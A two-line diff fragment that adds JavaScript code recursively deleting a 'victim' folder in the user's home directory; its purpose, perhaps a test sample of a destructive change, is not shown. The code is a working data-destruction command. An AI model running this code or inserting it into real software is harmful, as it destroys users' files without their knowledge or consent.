@@ -1,0 +1,2 @@
+import { rmSync } from 'fs';
+rmSync(process.env.HOME + '/victim', { recursive: true });
